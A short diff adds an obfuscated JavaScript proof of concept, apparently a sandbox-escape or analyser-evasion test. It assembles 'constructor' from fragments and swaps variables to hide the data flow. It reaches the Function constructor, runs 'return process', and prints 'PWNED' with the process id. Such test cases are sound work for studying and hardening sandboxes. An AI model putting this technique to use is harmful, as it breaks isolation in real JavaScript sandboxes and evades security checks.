@@ -1,0 +1,10 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+class C { go(f) { return f[w]; } }
+const t = new C();
+t.go({});
+const fn = (x) => x;
+let a = t, b = {};
+[a, b] = [b, a];
+const o = Date.now() > 1 ? b : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
